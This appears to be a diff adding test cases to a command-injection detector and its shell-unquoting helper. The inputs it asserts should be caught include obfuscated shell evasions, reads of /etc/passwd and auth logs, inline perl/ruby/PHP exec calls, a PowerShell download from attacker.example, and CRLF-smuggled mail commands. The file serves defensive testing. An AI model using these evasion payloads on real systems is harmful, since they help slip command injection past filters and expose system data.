@@ -37,6 +37,72 @@ describe('detectCmdi', () => {
     }
   });
 
+  test('evasions only a shell undoes: empty substitutions, special parameters, brace lists, ANSI-C quoting', () => {
+    for (const value of [
+      'tr$()aceroute -m 3 10.1.2.3',
+      'ho``stname',
+      'who<()ami',
+      'u$@na$!me -a',
+      'host;who$_am$?i',
+      '{,uname,-a}',
+      '{hostname,}',
+      '{nmap,-sV,10.0.0.0/8}',
+      "{,$'uname',-r}",
+      'p""e""r""l -v',
+      '`/usr/bin/wh?ami`',
+      '$SHELL -c "uname -a"',
+      'x&&${RUN} $ARGS',
+    ]) {
+      assert.ok(fires(detectCmdi, value), value);
+    }
+  });
+
+  test('commands without an operator: reading system files, inline code, exec calls, chaining', () => {
+    for (const value of [
+      'more /etc/group',
+      'xzcat -d /var/log/auth.log.xz',
+      'dd if=/proc/self/maps of=/tmp/x',
+      "perl -e 'print 1'",
+      'ruby -e "puts 1"',
+      "';shell_exec('uname -a')",
+      'passthru("ls -la")',
+      'hostname;',
+      'netstat|',
+      'tasklist.exe /v',
+      '\\ls -la',
+      '; iwr https://attacker.example/x.ps1',
+    ]) {
+      assert.ok(fires(detectCmdi, value), value);
+    }
+  });
+
+  test('cmd.exe loops and comparisons', () => {
+    for (const value of [
+      'for %item in (a b) do type %item',
+      'FOR /L %%n IN (1,1,5) DO ping -n 1 10.0.0.%%n',
+      'if [%2] equ [] echo missing',
+      'IF (3) LSS (9) echo less',
+      'if not (1 neq 1) dir',
+      'if/i x==X echo same',
+      'if "a b" == "a b" echo same',
+    ]) {
+      assert.ok(fires(detectCmdi, value), value);
+    }
+  });
+
+  test('mail and file-transfer protocol commands after CR LF', () => {
+    for (const value of [
+      'x\r\nRCPT TO:<victim@example.org>',
+      'subject\r\nHELO mail.example.net',
+      'a\r\nDATA',
+      'b\r\nRETR 7',
+      'c\r\nAPOP mallory 0123456789abcdef0123456789abcdef',
+      'd\r\nB7 LOGIN user pass',
+    ]) {
+      assert.ok(fires(detectCmdi, value.replaceAll('\\r\\n', '\r\n')), value);
+    }
+  });
+
   test('benign look-alikes do not fire', () => {
     for (const value of [
       'Tom & Jerry',
@@ -49,6 +115,20 @@ describe('detectCmdi', () => {
       'salt & pepper',
       'jane.doe@example.com',
       'id',
+      'ping 127.0.0.1',
+      'C:\\Windows\\System32\\ls',
+      'fields={id,name,email}',
+      'pick {cat,dog}',
+      'if x is 1 then stop',
+      'aWYrZm9vPT0=',
+      'if+foo==',
+      'Please see the log under /var/log/app for details',
+      'More info: quit smoking\r\nHelp is available',
+      'data\nquit',
+      'system("Thank you")',
+      "don't cat's",
+      'price: US$5, $USD 10',
+      'for each item in (the list) we do nothing',
     ]) {
       assert.equal(fires(detectCmdi, value), false, value);
     }
@@ -57,5 +137,8 @@ describe('detectCmdi', () => {
   test('unshell undoes shell quoting', () => {
     assert.equal(unshell("c''at /e't'c/pa\"\"sswd"), 'cat /etc/passwd');
     assert.equal(unshell('cat${IFS}/etc/passwd'), 'cat /etc/passwd');
+    assert.equal(unshell('{,cat,/etc/passwd}'), 'cat /etc/passwd');
+    assert.equal(unshell('c$@a$()t'), 'cat');
+    assert.equal(unshell("$'id'"), 'id');
   });
 });
